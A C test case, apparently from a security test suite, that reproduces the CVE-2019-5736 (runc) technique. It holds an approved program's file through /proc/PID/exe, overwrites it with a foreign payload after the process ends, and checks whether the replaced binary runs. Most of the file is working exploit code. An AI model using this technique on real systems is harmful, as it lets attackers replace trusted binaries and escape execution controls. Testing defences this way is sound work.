// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Holds an approved program by /proc/PID/exe while it runs, opens it for writing by that
 * descriptor after it has ended, overwrites it and runs it again.
 * Source: CVE-2019-5736 (runc). Control: the second run is foreign.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* A descriptor of the program's file, by way of its process; the program has ended then. */
static int hold(const char *program)
{
	int input[2], output[2], held, status;
	char link[64], byte;
	pid_t pid;

	if (pipe2(input, O_CLOEXEC) || pipe2(output, O_CLOEXEC))
		broken("pipe");
	pid = fork();
	if (pid == 0) {
		dup2(input[0], 0);
		dup2(output[1], 1);
		execl(program, "exe", "wait", (char *)NULL);
		_exit(127);
	}
	close(input[0]);
	close(output[1]);
	if (pid < 0 || read(output[0], &byte, 1) != 1)
		broken("the approved program does not run");
	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	held = open(link, O_PATH | O_CLOEXEC);
	close(input[1]);
	waitpid(pid, &status, 0);
	return held;
}

void attack(void)
{
	const struct start start = { .path = lab_path("open/exe"), .argv = { "exe" } };
	int held = hold(start.path);
	char path[64];

	if (held < 0)
		no_effect(errno);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	overwrite_program("foreign/payload", path);
	judge(runs(&start, FOREIGN_TEXT));
}
